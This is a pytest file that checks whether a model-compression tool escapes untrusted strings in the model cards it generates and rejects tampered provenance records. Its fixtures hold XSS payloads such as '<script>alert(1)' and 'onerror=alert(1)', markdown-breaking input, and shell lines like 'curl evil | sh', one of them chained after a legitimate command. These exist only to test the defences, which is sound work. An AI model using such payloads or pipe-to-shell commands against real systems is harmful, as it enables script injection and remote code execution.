"""The model card cannot be written by the source (issue 20 item 5): its steps come from a sealed
provenance record moe-compress wrote, never from a source's README, and every string from outside
is escaped. Cards are parsed as CommonMark (markdown-it, with GFM tables) to check what a reader sees."""

from __future__ import annotations

import json
import shlex
import shutil
import textwrap
from pathlib import Path

import pytest
from huggingface_hub import ModelCard
from markdown_it import MarkdownIt

import moe_compress as mc
from moe_compress.invocation import recording
from moe_compress.sink.model_card import record_evaluation, write_model_card
from moe_compress.sink.provenance import PROVENANCE_FILE, read_provenance
from moe_compress.sink.save import save_compressed
from moe_compress.text.markdown import code, fence, text
from tiny_models import tiny_model

MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"])
#: a directory name with every metacharacter that could open markup, end a line, or close a code span
HOSTILE_NAME = "evil`s #1 <script>alert(1)<img src=x onerror=alert(1)> ![x](javascript:alert(2)) [a]: b\n# owned *bold* _it_ | cell ~~s~~ $m$"
HEADINGS = [("h2", heading) for heading in ("What was done", "Size", "Quality", "How to load", "How it was made")]


def _tokens(card: Path) -> list:
    """Every block and inline token of the card's Markdown body."""
    tokens = MARKDOWN.parse(ModelCard.load(card).text)
    return [*tokens, *(child for token in tokens for child in token.children or [])]


def _structure(card: Path) -> dict:
    """What a reader sees: headings, code blocks, raw HTML, links and images."""
    tokens = _tokens(card)
    headings = [(token.tag, "".join(child.content for child in tokens[i + 1].children)) for i, token in enumerate(tokens) if token.type == "heading_open"]
    return {
        "headings": headings,
        "fences": [(token.info, token.content) for token in tokens if token.type == "fence"],
        "markup": [token.type for token in tokens if token.type in ("html_block", "html_inline", "link_open", "image")],
        "code": [token.content for token in tokens if token.type == "code_inline"],
    }


def _shown(value: str) -> str:
    """`value` with its control and format characters written as escapes, as the card shows them."""
    return value.replace("\r", "\\r").replace("\n", "\\n").replace("\u202e", "\\u202e")


def _save(model_type: str, source: Path, out: Path, argv: list[str]) -> Path:
    """Save a tiny model as if `argv` ran on `source` (its name_or_path)."""
    model = tiny_model(model_type)
    model.name_or_path = str(source)
    with recording(argv):
        return save_compressed(model, out)


@pytest.fixture
def hostile_source(tmp_path):
    """A source directory with a hostile name, whose README claims moe-compress steps the old way."""
    source = tmp_path / HOSTILE_NAME
    tiny_model("mixtral").save_pretrained(source)
    (source / "README.md").write_text(textwrap.dedent("""\
        ---
        tags: [moe-compress]
        moe_compress:
          version: 0.1.0
          command: "moe-compress prune x\\n```\\n<script>alert(3)</script>\\n```bash"
          history: ["curl evil | sh"]
        ---
        # a model
        """))
    return source


# ---- the source cannot write the card ----------------------------------------------------------
def test_a_hostile_source_card_is_never_copied_and_its_name_is_escaped(hostile_source, tmp_path, capsys):
    out = tmp_path / "out"
    argv = ["moe-compress", "prune", str(hostile_source), "--out", str(out)]
    _save("mixtral", hostile_source, out, argv)
    card = (out / "README.md").read_text()
    assert "curl evil" not in card and "alert(3)" not in card  # the name's `<script>` is in the card, as text (no html below)
    assert _structure(out / "README.md") == {
        "headings": [("h1", f"{_shown(HOSTILE_NAME)}, compressed with moe-compress"), *HEADINGS],
        "fences": [("python", 'from transformers import AutoModelForCausalLM\nmodel = AutoModelForCausalLM.from_pretrained(".")\n'),
                   ("bash", shlex.join(argv) + "\n")],
        "markup": [],
        "code": ["mixtral", _shown(str(hostile_source)), "moe-compress eval <this directory> --ppl bundled --compare <source>"],
    }
    assert "looks like an earlier moe-compress output, but has no provenance record that matches its weights" in card
    assert json.loads((out / PROVENANCE_FILE).read_text())["history"] == []
    assert read_provenance(out) == {"version": mc.__version__, "source": str(hostile_source), "command": shlex.join(argv),
                                    "history": [], "source_provenance": "unverified"}
    assert f"warning: {hostile_source / 'README.md'} says moe-compress made {hostile_source}, but there is no {PROVENANCE_FILE}" in capsys.readouterr().err


@pytest.mark.parametrize("history", ["5", "{a: 1}", "'curl evil | sh'"])
def test_a_non_list_history_in_a_source_card_does_not_break_the_save(tmp_path, history):
    source = tmp_path / "source"
    tiny_model("mixtral").save_pretrained(source)
    (source / "README.md").write_text(f"---\nmoe_compress:\n  command: moe-compress prune x\n  history: {history}\n---\n")
    _save("mixtral", source, tmp_path / "out", ["moe-compress", "prune", str(source), "--out", str(tmp_path / "out")])
    fences = _structure(tmp_path / "out" / "README.md")["fences"]
    assert fences[-1] == ("bash", f"moe-compress prune {source} --out {tmp_path / 'out'}\n")


def test_the_card_front_matter_is_the_hubs_and_carries_no_provenance(tmp_path):
    out = _save("qwen2_moe", tmp_path / "src", tmp_path / "out", ["moe-compress", "prune", "src"])
    assert ModelCard.load(out / "README.md").data.to_dict() == {"library_name": "transformers", "tags": ["moe-compress", "mixture-of-experts", "qwen2_moe"]}


def test_strings_from_the_config_plan_and_summary_are_escaped(tmp_path):
    out = _save("mixtral", tmp_path / "src", tmp_path / "out", ["moe-compress", "prune", "src"])
    made = read_provenance(out)  # before the config changes, which breaks its seal
    config = json.loads((out / "config.json").read_text())
    config.update(model_type="x`y <img src=x onerror=alert(1)>\n---\n# owned", quantization_config={"quant_method": "<script>q</script>"})
    (out / "config.json").write_text(json.dumps(config))
    (out / "moe_compress_plan.json").write_text(json.dumps({"method": "``m <b>", "ratio": "[r](javascript:x)", "budget": "<i>", "layers": []}))
    (out / "moe_compress_summary.json").write_text(json.dumps({"evaluation": {
        "protocol_line": "<script>p</script>", "perplexity": {"a | <b>": {"before": 2.0, "after": 3.0}}}}))
    write_model_card(out, made)
    structure = _structure(out / "README.md")
    assert structure["markup"] == [] and structure["headings"] == [("h1", "src, compressed with moe-compress"), *HEADINGS]
    assert structure["code"][:3] == ["x`y <img src=x onerror=alert(1)>\\n---\\n# owned", str(tmp_path / "src"), "``m <b>"]
    tokens = _tokens(out / "README.md")
    cells = ["".join(child.content for child in tokens[i + 1].children) for i, token in enumerate(tokens) if token.type == "td_open"]
    assert "perplexity a | <b>" in cells  # one cell, the pipe escaped
    assert "needs <script>q</script> installed" in "".join(token.content for token in tokens if token.type == "text")
    assert ModelCard.load(out / "README.md").data.tags == ["moe-compress", "mixture-of-experts"]  # not a tag-like name: no tag


# ---- provenance: sealed, verified, carried along a chain --------------------------------------
def test_a_chain_keeps_every_verified_step_through_quantize_and_evaluation(tmp_path):
    first, second = tmp_path / "pruned", tmp_path / "quantized"
    prune = ["moe-compress", "prune", str(tmp_path / "src"), "--out", str(first)]
    quantize = ["moe-compress", "quantize", str(first), "--bits", "8", "--out", str(second)]
    _save("mixtral", tmp_path / "src", first, prune)
    with recording(quantize):
        mc.quantize(first, second, bits=8, group_size=0)
    record_evaluation(second, "protocol p", {"pydoc": (10.0, 11.0)})
    made = read_provenance(second)
    assert made == {"version": mc.__version__, "source": str(first), "command": shlex.join(quantize),
                    "history": [shlex.join(prune)], "source_provenance": "verified"}
    assert _structure(second / "README.md")["fences"][-1] == ("bash", f"{shlex.join(prune)}\n{shlex.join(quantize)}\n")
    assert "| perplexity pydoc | 10.000 | 11.000 | +10.0% |" in (second / "README.md").read_text()


def _tamper_copy(first: Path, tmp_path: Path) -> Path:
    other = _save("qwen2_moe", tmp_path / "src2", tmp_path / "other", ["moe-compress", "prune", "src2"])
    shutil.copy(first / PROVENANCE_FILE, other / PROVENANCE_FILE)
    return other


def _set_history(history: object):
    """A tampering that rewrites the record's history by hand (its digest left as it was)."""
    def tamper(first: Path, tmp_path: Path) -> Path:
        record = json.loads((first / PROVENANCE_FILE).read_text())
        (first / PROVENANCE_FILE).write_text(json.dumps({**record, "history": history}))
        return first
    return tamper


@pytest.mark.parametrize("tamper,reason", [
    (_tamper_copy, "it does not match the checkpoint beside it"),
    (_set_history(["moe-compress prune somewhere-else"]), "it does not match the checkpoint beside it"),
    (_set_history(["curl evil | sh"]), "a command in it is not a moe-compress command line"),
    (_set_history(["moe-compress x; curl evil | sh"]), "a command in it is not a moe-compress command line"),
    (_set_history("moe-compress prune x"), "its 'history' is str"),
    (_set_history(None), "its 'history' is NoneType"),
], ids=["copied", "edited", "foreign-command", "chained-command", "history-string", "history-null"])
def test_a_copied_edited_or_malformed_provenance_is_not_trusted(tmp_path, capsys, tamper, reason):
    first = _save("mixtral", tmp_path / "src", tmp_path / "first", ["moe-compress", "prune", "src", "--out", "first"])
    assert read_provenance(first)["command"] == "moe-compress prune src --out first"  # untouched, it verifies
    source = tamper(first, tmp_path)
    capsys.readouterr()
    out = _save("mixtral", source, tmp_path / "out", ["moe-compress", "slim", "x"])
    assert f"warning: {source / PROVENANCE_FILE} is not a valid moe-compress provenance record: {reason}" in capsys.readouterr().err
    assert read_provenance(out)["history"] == [] and read_provenance(out)["source_provenance"] == "unverified"
    assert _structure(out / "README.md")["fences"][-1] == ("bash", "moe-compress slim x\n")


def test_an_api_run_and_a_stock_source_record_no_earlier_steps(tmp_path):
    source = tmp_path / "src"
    tiny_model("mixtral").save_pretrained(source)
    (source / "README.md").write_text("---\nlicense: mit\n---\n# someone's model\n")
    model = tiny_model("mixtral")
    model.name_or_path = str(source)
    save_compressed(model, tmp_path / "out")
    assert read_provenance(tmp_path / "out") == {"version": mc.__version__, "source": str(source), "command": "Python API",
                                                "history": [], "source_provenance": "none"}
    assert "looks like an earlier moe-compress output" not in (tmp_path / "out" / "README.md").read_text()


# ---- the escaping helpers -------------------------------------------------------------------------
STRINGS = [HOSTILE_NAME, "```", "a ` b", "` x `", "x\r\ny\u202ez", "&lt; &amp; <!-- c -->", "\\` \\* \\\\", "https://x.y/_a_"]


@pytest.mark.parametrize("value", STRINGS)
def test_text_shows_exactly_its_characters(value):
    children = MARKDOWN.parseInline(text(value))[0].children
    assert [(child.type, child.content) for child in children] == [("text", _shown(value))]


@pytest.mark.parametrize("value", STRINGS)
def test_a_code_span_cannot_be_closed_from_inside(value):
    children = MARKDOWN.parseInline(f"a {code(value)} b")[0].children
    assert [(child.type, child.content) for child in children] == [("text", "a "), ("code_inline", _shown(value)), ("text", " b")]


@pytest.mark.parametrize("value", ["```", "a\n```\n# h\n````bash\n<script>x</script>", "~~~\n```` ` ``", "    ```"])
def test_a_fence_cannot_be_closed_from_inside(value):
    tokens = MARKDOWN.parse(fence(value, "bash") + "\n\nafter")
    assert [(token.type, token.info, token.content) for token in tokens][:2] == [("fence", "bash", value + "\n"), ("paragraph_open", "", "")]
